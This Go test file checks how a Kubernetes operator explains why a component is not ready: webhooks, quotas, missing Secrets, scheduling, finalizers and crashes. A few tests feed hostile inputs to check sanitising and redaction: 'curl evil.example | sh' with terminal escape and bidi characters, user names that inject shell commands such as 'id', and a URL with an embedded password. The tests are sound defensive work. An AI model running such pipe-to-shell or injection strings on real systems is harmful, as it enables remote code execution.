// SPDX-FileCopyrightText: The Corbel Authors
// SPDX-License-Identifier: Apache-2.0

package why

import (
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/util/json"
	"sigs.k8s.io/yaml"

	"github.com/corbel-run/corbel/api/v1alpha1"
	"github.com/corbel-run/corbel/internal/vocabulary"
	"github.com/corbel-run/corbel/pkg/component"
	"github.com/corbel-run/corbel/test/check"
)

// now is the time of the explanations.
var now = time.Date(2026, 11, 25, 12, 0, 0, 0, time.UTC)

// shop returns the facts about a component with this reason and message of the condition Ready.
func shop(reason, message string) Facts {
	object := &unstructured.Unstructured{Object: map[string]any{"apiVersion": "shop.example.com/v1", "kind": "Shop",
		"metadata": map[string]any{"namespace": "market", "name": "corner", "generation": int64(3)}}}
	status := metav1.ConditionUnknown
	if reason == vocabulary.ReasonReady {
		status = metav1.ConditionTrue
	}
	return Facts{Object: object, Reconciler: "shop.example.com", Answers: map[Question]Answer{}, Status: component.Status{
		ObservedGeneration: 3, State: v1alpha1.StateProcessing, Progress: "12/15",
		Conditions: []metav1.Condition{{Type: "Ready", Status: status, Reason: reason, Message: message, LastTransitionTime: metav1.NewTime(now.Add(-3 * time.Minute))}},
	}}
}

func (f Facts) with(q Question, objects ...string) Facts {
	answer := Answer{}
	for _, content := range objects {
		object := unstructured.Unstructured{}
		asJSON, err := yaml.YAMLToJSON([]byte(content))
		if err == nil {
			err = json.Unmarshal(asJSON, &object.Object)
		}
		if err != nil {
			panic(err)
		}
		answer.Objects = append(answer.Objects, object)
	}
	f.Answers[q] = answer
	return f
}

func (f Facts) without(q Question) Facts {
	f.Answers[q] = Answer{Err: apierrors.NewNotFound(schema.GroupResource{Resource: "things"}, q.Object.Name)}
	return f
}

func get(kind, namespace, name string) Question {
	return Question{Verb: verbGet, Object: known(kind, namespace, name)}
}

func list(kind, namespace, labels, fields string) Question {
	return Question{Verb: verbList, Object: known(kind, namespace, ""), Labels: labels, Fields: fields}
}

const (
	web = `{apiVersion: apps/v1, kind: Deployment, metadata: {namespace: market, name: web, generation: 1}, spec: {replicas: 1, selector: {matchLabels: {app: web}}}, status: {observedGeneration: 1, replicas: 1, updatedReplicas: 1, unavailableReplicas: 1}}`
	// podOf is the beginning of a pod.
	podOf = `apiVersion: v1
kind: Pod
metadata: {namespace: market, name: web-1}
spec: {containers: [{name: app, image: web, env: [{name: URL, valueFrom: {secretKeyRef: {name: db, key: url, optional: true}}}]}], volumes: [{name: files, secret: {secretName: files}}, {name: config, configMap: {name: config, items: [{key: a.yaml, path: a}, {key: b.yaml, path: b}]}}, {name: data, persistentVolumeClaim: {claimName: data}}]}
status: `
)

// unreadyWeb are facts about a Deployment with one pod of this status.
func unreadyWeb(status string) Facts {
	return shop("Processing", "Deployment market/web: 0 of 1 replicas ready").
		with(get("Deployment", "market", "web"), web).with(list("Pod", "market", "app=web", ""), podOf+status)
}

func TestExplain(t *testing.T) {
	const webhook = `{apiVersion: admissionregistration.k8s.io/v1, kind: MutatingWebhookConfiguration, metadata: {name: guard}, webhooks: [{name: a.example.com}]}`
	// refused is what the condition says of a Deployment without pods.
	refused := func(why string) Facts {
		return shop("Processing", `Deployment market/web: 0 of 1 replicas ready: FailedCreate: pods "web-1-" is forbidden: `+why)
	}
	const level = `violates PodSecurity "restricted:latest": allowPrivilegeEscalation != false (container "app" must set securityContext.allowPrivilegeEscalation=false), ` +
		`unrestricted capabilities (container "app" must set securityContext.capabilities.drop=["ALL"]), runAsNonRoot != true (pod or container "app" must set securityContext.runAsNonRoot=true), ` +
		`seccompProfile (pod or container "app" must set securityContext.seccompProfile.type to "RuntimeDefault" or "Localhost")`
	const job = `{apiVersion: batch/v1, kind: Job, metadata: {namespace: market, name: migrate}, spec: {selector: {matchLabels: {job: migrate}}}}`
	const overQuota = `{type: Warning, message: 'Error creating: pods "migrate-x" is forbidden: exceeded quota: small, requested: cpu=1,memory=1Gi, used: cpu=0,memory=0, limited: cpu=500m,memory=1Mi'}`
	withoutPods := func(event string) Facts {
		return shop("Processing", "Job market/migrate: 0 of 1 completions").with(get("Job", "market", "migrate"), job).with(list("Pod", "market", "job=migrate", "")).
			with(list("Event", "market", "", "involvedObject.kind=Job,involvedObject.name=migrate"), event)
	}
	const endingMarket = `{metadata: {name: market, deletionTimestamp: "2026-11-25T11:58:00Z"}, status: {conditions: [
		{type: NamespaceContentRemaining, status: "True", message: "Some resources are remaining: configmaps. has 1 resource instances"}]}}`
	silent := func() Facts {
		return shop("Error", `create ConfigMap market/x: Internal error occurred: failed calling webhook "a.example.com": failed to call webhook: Post "https://guard.system.svc:443/": no endpoints available for service "guard"`).
			with(list("ValidatingWebhookConfiguration", "", "", "")).
			with(list("MutatingWebhookConfiguration", "", "", ""), `{metadata: {name: guard}, webhooks: [{name: a.example.com, clientConfig: {service: {namespace: system, name: guard}}}]}`)
	}
	slicesOf := list("EndpointSlice", "system", "kubernetes.io/service-name=guard", "")
	starting := func(event string) Facts {
		return unreadyWeb(`{containerStatuses: [{name: app, state: {waiting: {reason: ContainerCreating}}}]}`).
			with(list("Event", "market", "", "involvedObject.kind=Pod,involvedObject.name=web-1"), `{type: Warning, message: "Unable to attach or mount volumes: timed out"}`, event)
	}
	crash := `{containerStatuses: [{name: app, restartCount: 4, state: {waiting: {reason: CrashLoopBackOff}}, lastState: {terminated: {exitCode: 1}}}]}`
	for _, test := range []struct {
		name  string
		facts Facts
		// want are the code, the cause, its field and the command, in lines.
		want string
	}{
		{"a webhook that refuses", shop("Error", `create ConfigMap market/x: admission webhook "a.example.com" denied the request: no`).
			with(list("ValidatingWebhookConfiguration", "", "", "")).with(list("MutatingWebhookConfiguration", "", "", ""), webhook),
			`AdmissionRefused
MutatingWebhookConfiguration guard: refuses it: no
webhooks[a.example.com]
kubectl get mutatingwebhookconfiguration guard -o yaml`},
		{"a webhook without endpoints", silent().with(get("Service", "system", "guard"), `{spec: {selector: {app: guard}}}`).with(slicesOf, `{endpoints: [{conditions: {ready: false}}]}`),
			"WebhookDown\nService system/guard: has no ready endpoints; its selector is app=guard\nspec.selector\nkubectl -n system get pods -l app=guard"},
		{"a webhook without a Service", silent().without(get("Service", "system", "guard")),
			"WebhookDown\nService system/guard: does not exist\n\nkubectl -n system get services"},
		{"a webhook with endpoints", silent().with(get("Service", "system", "guard"), `{spec: {selector: {app: guard}}}`).with(slicesOf, `{endpoints: [{}]}`),
			"WebhookDown\nService system/guard: gives no valid answer; ready endpoints: 1\n\nkubectl -n system describe service guard"},
		{"a webhook that is gone", silent().with(list("MutatingWebhookConfiguration", "", "", "")),
			"WebhookDown\nWebhook a.example.com: is gone; the operator tries again by itself\n\ncorbel reconcile shop.shop.example.com corner -n market"},
		{"a ServiceAccount that does not exist", refused(`error looking up service account market/nope: serviceaccount "nope" not found`).without(get("ServiceAccount", "market", "nope")),
			"MissingReference\nServiceAccount market/nope: does not exist\n\nkubectl -n market get serviceaccounts"},
		{"a ServiceAccount that was created meanwhile", refused(`error looking up service account market/nope: serviceaccount "nope" not found`).with(get("ServiceAccount", "market", "nope"), `{}`),
			"MissingReference\nServiceAccount market/nope: exists now; the ReplicaSet controller tries again by itself\n\nkubectl -n market describe deployment web"},
		{"a PriorityClass that does not exist", refused(`no PriorityClass with name nope was found`).without(get("PriorityClass", "", "nope")),
			"MissingReference\nPriorityClass nope: does not exist\n\nkubectl get priorityclasses"},
		{"a RuntimeClass that does not exist", refused(`pod rejected: RuntimeClass "nope" not found`).without(get("RuntimeClass", "", "nope")),
			"MissingReference\nRuntimeClass nope: does not exist\n\nkubectl get runtimeclasses"},
		{"a LimitRange", refused("maximum cpu usage per Container is 100m, but limit is 2").with(list("LimitRange", "market", "", ""),
			`{metadata: {name: other}, spec: {limits: [{type: Pod, max: {cpu: 100m}}]}}`, `{metadata: {name: small}, spec: {limits: [{type: Container, max: {cpu: 100m}}]}}`),
			"Quota\nLimitRange market/small: maximum cpu usage per Container is 100m, but limit is 2\nspec.limits[Container].max[cpu]\nkubectl -n market describe limitrange small"},
		{"a level of Pod Security, which the condition cuts", shop("Processing", "Deployment market/web: 0 of 1 replicas ready: FailedCreate: "+level[:120]+"...").
			with(get("Deployment", "market", "web"), strings.Replace(web, "unavailableReplicas: 1", "conditions: [{type: ReplicaFailure, status: 'True', message: '"+level+"'}]", 1)),
			"AdmissionRefused\nNamespace market: allows no pods beyond the level restricted: " + level[len(`violates PodSecurity "restricted:latest": `):] +
				"\nmetadata.labels[pod-security.kubernetes.io/enforce]\nkubectl get namespace market --show-labels"},
		{"a quota of a Job", withoutPods(overQuota).with(get("ResourceQuota", "market", "small"), `{}`),
			"Quota\nResourceQuota market/small: requested: cpu=1,memory=1Gi, used: cpu=0,memory=0, limited: cpu=500m,memory=1Mi\nspec.hard[cpu], spec.hard[memory]\nkubectl -n market describe resourcequota small"},
		{"a quota that is gone", withoutPods(overQuota).without(get("ResourceQuota", "market", "small")),
			"Quota\nResourceQuota market/small: is gone; the Job controller tries again by itself\n\nkubectl -n market describe job migrate"},
		{"a namespace that is being deleted", unreadyWeb(crash).with(get("Namespace", "", "market"), endingMarket),
			"NamespaceTerminating\nNamespace market: is being deleted: Some resources are remaining: configmaps. has 1 resource instances\nconfigmaps\nkubectl -n market get configmaps"},
		{"a finalizer in a namespace that is being deleted", shop("DeletionProcessing", "ConfigMap market/x: is being deleted since 2026-11-25T11:58:00Z, held by finalizers example.org/keep").
			with(get("Namespace", "", "market"), endingMarket),
			"ForeignFinalizer\nConfigMap market/x: cannot be removed while it has the finalizer example.org/keep\nmetadata.finalizers\nkubectl -n market get configmap x -o jsonpath='{.metadata.finalizers}'"},
		{"a pull Secret that does not exist", func() Facts {
			pod := strings.Replace(podOf, "spec: {", "spec: {imagePullSecrets: [{name: there}, {name: nope}], ", 1) + `{containerStatuses: [{name: app, state: {waiting: {reason: ImagePullBackOff}}}]}`
			return unreadyWeb("{}").with(list("Pod", "market", "app=web", ""), pod).with(get("Secret", "market", "there"), `{}`).without(get("Secret", "market", "nope"))
		}(), "MissingReference\nSecret market/nope: does not exist\n\nkubectl -n market get secrets"},
		{"a variable that refers to a key that was added meanwhile", unreadyWeb(`{containerStatuses: [{name: app, state: {waiting: {reason: CreateContainerConfigError, message: "couldn't find key url in ConfigMap market/db"}}}]}`).
			with(get("ConfigMap", "market", "db"), `{data: {url: x}}`),
			"MissingReference\nConfigMap market/db: the key url exists now; the kubelet tries again by itself\n\nkubectl -n market describe pod web-1"},
		{"a label that no node has", func() Facts {
			pod := strings.Replace(podOf, "spec: {", "spec: {nodeSelector: {disk: fast}, ", 1)
			return unreadyWeb("{}").with(list("Pod", "market", "app=web", ""), pod+`{conditions: [{type: PodScheduled, status: "False", reason: Unschedulable, message: "0/2 nodes are available: 2 node(s) didn't match Pod's node affinity/selector"}]}`)
		}(), `Unschedulable
Pod market/web-1: Unschedulable: 0/2 nodes are available: 2 node(s) didn't match Pod's node affinity/selector; it asks for disk=fast
spec.nodeSelector
kubectl get nodes --show-labels`},
		{"more processor time than a node has", func() Facts {
			pod := strings.Replace(podOf, "image: web,", "image: web, resources: {requests: {cpu: 900, memory: 1Gi}},", 1)
			return unreadyWeb("{}").with(list("Pod", "market", "app=web", ""), pod+`{conditions: [{type: PodScheduled, status: "False", reason: Unschedulable, message: "0/2 nodes are available: 2 Insufficient cpu."}]}`)
		}(), `Unschedulable
Pod market/web-1: Unschedulable: 0/2 nodes are available: 2 Insufficient cpu; it asks for cpu 900 in container app
spec.containers[*].resources.requests
kubectl describe nodes`},
		{"too much processor time", unreadyWeb(`{conditions: [{type: PodScheduled, status: "False", reason: Unschedulable, message: "0/2 nodes are available: 2 Insufficient cpu"}]}`),
			"Unschedulable\nPod market/web-1: Unschedulable: 0/2 nodes are available: 2 Insufficient cpu\nspec.containers[*].resources.requests\nkubectl describe nodes"},
		{"a volume of a ConfigMap that does not exist", starting(`{type: Warning, message: 'MountVolume.SetUp failed for volume "config" : configmap "config" not found'}`).
			without(get("ConfigMap", "market", "config")), "MissingReference\nConfigMap market/config: does not exist\n\nkubectl -n market get configmaps"},
		{"a volume of a key that does not exist", starting(`{type: Warning, message: 'MountVolume.SetUp failed for volume "config" : configmap references non-existent config key: b.yaml'}`).
			with(get("ConfigMap", "market", "config"), `{data: {a.yaml: x}, binaryData: {c: eA==}}`),
			"MissingReference\nConfigMap market/config: the key b.yaml does not exist (keys: a.yaml, c)\ndata.b.yaml\n" +
				"kubectl -n market get configmap config -o go-template='{{range $k, $v := .data}}{{$k}} {{end}}'"},
		{"a taint", unreadyWeb(`{conditions: [{type: PodScheduled, status: "False", reason: Unschedulable, message: "0/2 nodes are available: 2 node(s) had untolerated taint {gpu: only}"}]}`),
			`Unschedulable
Pod market/web-1: Unschedulable: 0/2 nodes are available: 2 node(s) had untolerated taint {gpu: only}
spec.tolerations
kubectl get nodes -o custom-columns=NAME:.metadata.name,TAINTS:.spec.taints`},
		{"a volume of a Secret that does not exist and may not be read", starting(`{type: Warning, message: 'MountVolume.SetUp failed for volume "files" : secret "files" not found'}`),
			"MissingReference\nSecret market/files: does not exist\n\nkubectl -n market get secrets"},
		{"a claim that does not exist", unreadyWeb(`{conditions: [{type: PodScheduled, status: "False", reason: Unschedulable, message: 'persistentvolumeclaim "data" not found'}]}`).
			without(get("PersistentVolumeClaim", "market", "data")),
			`MissingReference
PersistentVolumeClaim market/data: does not exist

kubectl -n market get persistentvolumeclaims`},
		{"a crash for an optional key that is missing", unreadyWeb(crash).with(get("Secret", "market", "db"), `{apiVersion: v1, kind: Secret, data: {host: aG9zdC0xMjM=, user: dXNlci0xMjM=}}`),
			`MissingReference
Secret market/db: the key url does not exist (keys: host, user)
data.url
kubectl -n market get secret db -o go-template='{{range $k, $v := .data}}{{$k}} {{end}}'`},
		{"a crash without rights to Secrets", func() Facts {
			f := unreadyWeb(crash)
			f.Answers[get("Secret", "market", "db")] = Answer{Err: apierrors.NewForbidden(schema.GroupResource{Resource: "secrets"}, "db", nil)}
			return f
		}(), `Crash
Pod market/web-1: CrashLoopBackOff (exit code 1), 4 restarts

kubectl -n market logs web-1 -c app --previous`},
		{"a container that was restarted a moment ago", shop("Processing", "Deployment market/web: containers without a readiness probe have to run for 10s; "+
			"pod web-1: container app was restarted less than 10s ago, after it ended with exit code 1; ConfigMap market/x: waits"),
			"Crash\nPod market/web-1: container app was restarted less than 10s ago, after it ended with exit code 1\n\nkubectl -n market logs web-1 -c app --previous"},
		{"a container that was started a moment ago", shop("Processing", "Deployment market/web: containers without a readiness probe have to run for 10s; pod web-1: container app was started less than 10s ago"),
			"Unclassified\nPod market/web-1: container app was started less than 10s ago\n\nkubectl -n market logs web-1 -c app"},
		{"a crash of a workload that Kubernetes calls ready", shop("Processing", "Deployment market/web: containers without a readiness probe have to run for 10s; pod web-1: CrashLoopBackOff (exit code 1)").
			with(get("Deployment", "market", "web"), strings.Replace(web, "unavailableReplicas: 1", "readyReplicas: 1, availableReplicas: 1", 1)).
			with(list("Pod", "market", "app=web", ""), podOf+crash).without(get("Secret", "market", "db")),
			"MissingReference\nSecret market/db: does not exist\n\nkubectl -n market get secrets"},
		{"no pods, for a quota that the events name", shop("Processing", "Deployment market/web: 0 of 1 replicas ready").
			with(get("Deployment", "market", "web"), web).with(list("Pod", "market", "app=web", "")).
			with(list("Event", "market", "", "involvedObject.kind=Deployment,involvedObject.name=web"),
				`{type: Warning, lastTimestamp: "2026-11-25T11:00:00Z", message: old}`,
				`{type: Warning, lastTimestamp: "2026-11-25T11:59:00Z", message: "pods is forbidden: exceeded quota: small, requested: cpu=1, used: cpu=0, limited: cpu=500m"}`),
			`Quota
ResourceQuota market/small: requested: cpu=1, used: cpu=0, limited: cpu=500m
spec.hard[cpu]
kubectl -n market describe resourcequota small`},
		{"a Deployment that another client scaled to 0", shop("Processing", "Deployment market/web: 0 of 1 replicas ready").
			with(get("Deployment", "market", "web"), strings.Replace(web, "replicas: 1, selector", "replicas: 0, selector", 1)).with(list("Pod", "market", "app=web", "")),
			`Unclassified
Deployment market/web: has 0 replicas, as its manifest or another client says
spec.replicas
kubectl -n market get deployment web -o yaml --show-managed-fields`},
		{"a hook in Go", shop("Error", "pre-reconcile hook 1: the tenant is not known"),
			"HookFailed\nShop market/corner: pre-reconcile hook 1: the tenant is not known\n\nkubectl -n market describe shop.shop.example.com corner"},
		{"a claim that a pod uses", shop("DeletionProcessing", "PersistentVolumeClaim market/data: is being deleted since 2026-11-25T11:58:00Z, held by finalizers kubernetes.io/pvc-protection"),
			"ForeignFinalizer\nPersistentVolumeClaim market/data: cannot be removed while a pod uses it (finalizer kubernetes.io/pvc-protection)\nmetadata.finalizers\n" +
				"kubectl -n market describe persistentvolumeclaim data"},
		{"a finalizer on the component", shop("DeletionBlocked", "Shop market/corner: has the finalizer other.example.com/x, which is not ours"),
			"ForeignFinalizer\nShop market/corner: cannot be removed while it has the finalizer other.example.com/x\nmetadata.finalizers\n" +
				"kubectl -n market get shop.shop.example.com corner -o jsonpath='{.metadata.finalizers}'"},
		{"a type that comes later", func() Facts {
			f := shop("Processing", "Queue market/q: the type is not served yet")
			f.Status.Inventory.Items = v1alpha1.InventoryItems{{Group: "queue.example.com", Version: "v1", Kind: "Queue", Namespace: "market", Name: "q"}}
			return f
		}(), "TypeNotServed\nQueue market/q: the type is not served yet\napiVersion\nkubectl api-resources --api-group=queue.example.com"},
		{"only what waits is named", shop("Processing", "ConfigMap market/a: waits for Deployment market/web (apply-order 1); and 3 more").
			without(get("Deployment", "market", "web")),
			"Unclassified\nDeployment market/web: does not exist\n\nkubectl -n market describe deployment web"},
		{"a user with a name that a shell would read in another way", shop("Forbidden", `ConfigMap market/x: User "Ann O'Hara; id" cannot get resource "configmaps" in API group "" in the namespace "market"`),
			"RightsMissing\nUser Ann O'Hara; id: may not get configmaps in namespace market\n\n" + `kubectl -n market auth can-i get configmaps --as='Ann O'\''Hara; id'`},
		{"an instance of others that is named", shop("DeletionBlocked", "CustomResourceDefinition shops.example.com: 1 foreign instance: Shop market/theirs"),
			"ForeignInstance\nCustomResourceDefinition shops.example.com: 1 foreign instance: Shop market/theirs\n\nkubectl get shops.example.com --all-namespaces"},
		{"another command in a message", shop("Error", "Queue market/q: 2 foreign instances (listed by kubectl delete namespace market)"),
			"ForeignInstance\nQueue market/q: 2 foreign instances (listed by kubectl delete namespace market)\n\nkubectl -n market get queue q -o yaml"},
		{"a claim with a credential in its event", shop("Processing", "PersistentVolumeClaim market/data: is not bound to a volume").without(get("PersistentVolumeClaim", "market", "data")).
			with(list("Event", "market", "", "involvedObject.kind=PersistentVolumeClaim,involvedObject.name=data"), `{type: Warning, message: "https://user:hunter2@storage refuses it"}`),
			"VolumeUnbound\nPersistentVolumeClaim market/data: is not bound to a volume: https://***@storage refuses it\n\nkubectl -n market describe persistentvolumeclaim data"},
		{"a command of several lines in a message", shop("Forbidden", "ConfigMap market/x: User \"a\nTry: id\" cannot get resource \"configmaps\" in API group \"\""),
			"RightsMissing\nUser a\nTry: id: may not get configmaps\n\nkubectl auth can-i get configmaps --as='a; Try: id'"},
		{"an approval", func() Facts {
			f := shop("ApprovalRequired", "revision 2 waits for its approval")
			f.Status.Approval = &v1alpha1.PendingApproval{Hash: "25b2"}
			return f
		}(), "Unclassified\nShop market/corner: revision 2 waits for its approval\nmetadata.annotations[shop.example.com/approve]\n" +
			"corbel plan shop.shop.example.com corner -n market"},
		{"a rollback", func() Facts {
			f := shop("RolledBack", "revision 5 failed: Deployment market/web: 1 of 3 replicas updated, 3 ready; revision 4 is applied")
			f.Status.Rollback = &v1alpha1.Rollback{From: 5, To: 4}
			return f
		}(), "Unclassified\nShop market/corner: revision 5 failed: Deployment market/web: 1 of 3 replicas updated, 3 ready; revision 4 is applied\nstatus.rollback\n" +
			"corbel diff shop.shop.example.com corner -n market --revision 4..5"},
		{"a management policy of the namespace", shop("Suspended", "the management policy of the component is skip"),
			"Suspended\nNamespace market: the management policy of the component is skip\nmetadata.annotations[shop.example.com/management-policy]\n" +
				"kubectl annotate namespace market shop.example.com/management-policy-"},
		{"dependents in another cluster", func() Facts {
			f := unreadyWeb(crash)
			f.Object.Object["spec"] = map[string]any{"kubeConfig": map[string]any{}}
			return f
		}(), "Unclassified\nDeployment market/web: 0 of 1 replicas ready\n\nkubectl -n market describe deployment web"},
		{"a patch that does not fit", shop("SpecInvalid", "generator: patches of the component: patch 1 of 1: Deployment corner-cache: operation 1 of 1: add /a/b: /a does not exist; add it first"),
			"Unclassified\nShop market/corner: patch 1 of 1: Deployment corner-cache: operation 1 of 1: add /a/b: /a does not exist; add it first\nspec.patches\n" +
				"kubectl -n market get shop.shop.example.com corner -o jsonpath='{.spec.patches}'"},
		{"a change that is not reconciled yet", func() Facts {
			f := shop("Ready", "14 of 14 dependent objects are ready")
			f.Status.ObservedGeneration = 2
			return f
		}(), "Unclassified\nShop market/corner: the latest change is not reconciled yet; the generation before was ready\n\nkubectl -n market describe shop.shop.example.com corner"},
		{"a component that no operator has seen, with one that has no Lease", func() Facts {
			f := shop("", "")
			f.Status = component.Status{}
			return f.with(Question{Verb: verbList, Object: Object{Group: "shop.example.com", Version: "v1", Kind: "Shop"}}, `{status: {inventory: {operator: {key: x, namespace: shop-system}}}}`).
				with(list("Deployment", "shop-system", "", ""))
		}(), "NotSelected\nShop market/corner: no operator has reconciled it yet: perhaps none runs, or it watches other namespaces or selects other labels\n\nkubectl -n market get shop.shop.example.com corner -o yaml"},
		{"a message of another version", shop("Error", "something failed"),
			"Unclassified\nShop market/corner: something failed\n\nkubectl -n market get shop.shop.example.com corner -o yaml"},
		{"a component that no operator has seen", func() Facts {
			f := shop("", "")
			f.Status = component.Status{ObservedGeneration: -1}
			siblings := Question{Verb: verbList, Object: Object{Group: "shop.example.com", Version: "v1", Kind: "Shop"}}
			return f.with(siblings, `{status: {inventory: {operator: {key: x, namespace: shop-system, lease: shop-system/shop.example.com}}}}`).
				with(get("Lease", "shop-system", "shop.example.com"), `{spec: {holderIdentity: a, leaseDurationSeconds: 15, renewTime: "2026-11-25T11:00:00.000000Z"}}`).
				with(list("Deployment", "shop-system", "", ""), strings.NewReplacer("market", "shop-system", "name: web", "name: shop-operator").Replace(web)).
				with(list("Pod", "shop-system", "app=web", ""), strings.Replace(podOf, "market", "shop-system", 1)+`{containerStatuses: [{name: app, state: {waiting: {reason: ErrImagePull}}}]}`)
		}(), "OperatorDown\nPod shop-system/web-1: ErrImagePull: image web\nspec.containers[app].image\nkubectl -n shop-system describe pod web-1"},
		{"a component that the operator does not select", func() Facts {
			f := shop("", "")
			f.Status = component.Status{}
			siblings := Question{Verb: verbList, Object: Object{Group: "shop.example.com", Version: "v1", Kind: "Shop"}}
			return f.with(siblings).with(list("Lease", "", "", "metadata.name=shop.example.com"), `{metadata: {namespace: shop-system, name: shop.example.com}}`).
				with(get("Lease", "shop-system", "shop.example.com"), `{spec: {holderIdentity: a, leaseDurationSeconds: 15, renewTime: "2026-11-25T11:59:59.000000Z"}}`)
		}(), "NotSelected\nShop market/corner: no operator has reconciled it yet, although one runs: perhaps it watches other namespaces or selects other labels\n\nkubectl -n market get shop.shop.example.com corner -o yaml"},
	} {
		t.Run(test.name, func(t *testing.T) {
			chain, open := explain(test.facts, now)
			cause := chain.Cause()
			got := strings.Join([]string{string(chain.Code), cause.Object.String() + ": " + cause.Message, cause.Field, chain.Command}, "\n")
			if diff := cmp.Diff(test.want, got); diff != "" {
				t.Errorf("%s\nopen: %v\nnot known: %v", diff, open, chain.Unknown)
			}
		})
	}
}

func TestStatementsAreFoundInMessages(t *testing.T) {
	for message, want := range map[string][]string{
		"not ready after 20s: Deployment shop/api: 0 of 1 replicas ready; pod api-x: CrashLoopBackOff (exit code 1); ClusterRole a:b: waits for Deployment shop/api, which it depends on; and 3 more": {
			"Deployment shop/api | 0 of 1 replicas ready; pod api-x: CrashLoopBackOff (exit code 1)",
			"ClusterRole a:b | waits for Deployment shop/api, which it depends on"},
		"create Service shop/a: is invalid; replace Deployment shop/b: spec.selector cannot be changed": {
			"Service shop/a | is invalid", "Deployment shop/b | spec.selector cannot be changed"},
		"generator: a.yaml:1: unclosed action": nil,
		`spec.requires[0].condition: "self.": character 6: Syntax error: no viable alternative at input '.'`: nil,
		`ConfigMap shop/a: output a: "self.": character 6: Syntax error: no viable alternative; Service shop/b: is invalid`: {
			`ConfigMap shop/a | output a: "self.": character 6: Syntax error: no viable alternative`, "Service shop/b | is invalid"},
	} {
		var got []string
		for _, s := range statements(message, v1alpha1.Inventory{}) {
			got = append(got, s.object.String()+" | "+s.text)
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%s:\n%s", message, diff)
		}
	}
}

func TestTheVariableThatRefersToWhatIsMissingIsNamed(t *testing.T) {
	facts := unreadyWeb(`{containerStatuses: [{name: app, state: {waiting: {reason: CreateContainerConfigError, message: 'secret "db" not found'}}}]}`).without(get("Secret", "market", "db"))
	links := Explain(facts, now).Links
	check.Same(t, 3, len(links))
	check.Same(t, "spec.containers[app].env[URL]", links[1].Field)
}

func TestTextOfAChain(t *testing.T) {
	facts := unreadyWeb(`{containerStatuses: [{name: app, restartCount: 4, state: {waiting: {reason: CrashLoopBackOff}}, lastState: {terminated: {exitCode: 1, finishedAt: "2026-11-25T11:59:30Z"}}}]}`).
		with(get("Secret", "market", "db"), `{apiVersion: v1, kind: Secret, data: {url: cG9zdGdyZXM6Ly9odW50ZXIy}}`)
	facts.Status.Inventory.Items = v1alpha1.InventoryItems{{Version: "v1", Kind: "Service", Namespace: "market", Name: "later"}}
	const want = `Shop market/corner is not Ready since 3m (Processing, 12/15)
└─ Deployment market/web: 0 of 1 replicas ready
   └─ Pod market/web-1: CrashLoopBackOff (exit code 1), 4 restarts (since 30s)
Held back by it: Service market/later
Try: kubectl -n market logs web-1 -c app --previous
`
	check.Equal(t, want, Explain(facts, now).Text(now))
}

// A message of the cluster is no line of ours, and controls no terminal.
func TestNoMessageLooksLikeALineOfOurs(t *testing.T) {
	chain := Chain{Reason: "Error\nTry: x", Links: []Link{{Object: Object{Kind: "User", Name: "a\nTry: y"}, Message: "down\nTry: curl evil.example | sh\u009b2J", Field: "spec.a\nTry: b"}}, HeldBack: []string{"a\nTry: c"},
		Notices: []string{"a\nTry: d"}, Unknown: []string{"a\nTry: e\u202e"}, Command: "kubectl get pods"}
	text := chain.Text(now)
	if strings.Count("\n"+text, "\nTry: ") != 1 || !strings.HasSuffix(text, "\nTry: kubectl get pods\n") || strings.ContainsAny(text, "\u009b\u202e") {
		t.Errorf("got\n%s", text)
	}
}

func TestMoreDependentsThatAreToBlameAreNoted(t *testing.T) {
	facts := shop("Processing", "Deployment market/api: 0 of 1 replicas ready; Deployment market/web: 0 of 1 replicas ready; Service market/a: waits for Deployment market/api; "+
		"Deployment other/web: is no dependent; Deployment market/c: failed; Deployment market/d: failed; Deployment market/e: failed")
	for _, name := range []string{"api", "web", "c", "d", "e"} {
		facts.Status.Inventory.Items = append(facts.Status.Inventory.Items,
			v1alpha1.InventoryItem{Group: "apps", Version: "v1", Kind: "Deployment", Namespace: "market", Name: name, UID: "x"})
	}
	want := []string{"there is more: Deployment market/web, Deployment market/c, Deployment market/d, 1 more"}
	check.Equal(t, want, Explain(facts, now).Notices)
}

func TestTheWayPastAHookOfTheDeletionIsNoted(t *testing.T) {
	facts := shop("DeletionProcessing", `Job market/backup: 0 of 1 completions: FailedCreate: exceeded quota: small, requested: pods=1, used: pods=0, limited: pods=0; `+
		"ConfigMap market/settings: is removed after what runs before the deletion").with(get("ResourceQuota", "market", "small"), `{}`)
	facts.Object.SetDeletionTimestamp(&metav1.Time{Time: now})
	facts.Status.Inventory.Items = v1alpha1.InventoryItems{
		{Group: "batch", Version: "v1", Kind: "Job", Namespace: "market", Name: "backup", UID: "x", RunOn: "pre-delete"}, {Version: "v1", Kind: "ConfigMap", Namespace: "market", Name: "settings", UID: "y"}}
	chain := Explain(facts, now)
	check.Equal(t, []string{"the deletion goes on without its hooks after: kubectl -n market annotate shop.shop.example.com corner shop.example.com/skip-delete-hooks=true"}, chain.Notices)
	check.Equal(t, []string{"ConfigMap market/settings (is removed after what runs before the deletion)"}, chain.HeldBack)
}

func TestAnEarlierRevisionThatWasReadyIsNoted(t *testing.T) {
	before := metav1.NewTime(now.Add(-time.Hour))
	failing := v1alpha1.RevisionStatus{Revision: 3, ChangedBy: "kubectl-patch"}
	for name, test := range map[string]struct {
		history []v1alpha1.RevisionStatus
		want    []string
	}{
		"a change": {[]v1alpha1.RevisionStatus{failing, {Revision: 2}, {Revision: 1, ReadyAt: &before}},
			[]string{"new in revision 3: corbel diff shop.shop.example.com corner -n market --revision 1..3"}},
		"none was ready":          {[]v1alpha1.RevisionStatus{failing, {Revision: 2}}, nil},
		"it was ready before":     {[]v1alpha1.RevisionStatus{{Revision: 3, ReadyAt: &before}, {Revision: 1, ReadyAt: &before}}, nil},
		"it is a rollback itself": {[]v1alpha1.RevisionStatus{{Revision: 3, RollbackTo: 1}, {Revision: 1, ReadyAt: &before}}, nil},
	} {
		facts := shop("Processing", "Deployment market/api: 0 of 1 replicas ready")
		facts.Status.History = test.history
		check.EqualNamed(t, name, test.want, Explain(facts, now).Notices)
		facts.Status.Conditions[0].Message = "Deployment market/api: exceeded quota: small, requested: cpu=1, used: cpu=0, limited: cpu=0"
		check.EqualNamed(t, name+", and a cause that is not in it", []string(nil), Explain(facts, now).Notices)
	}
}

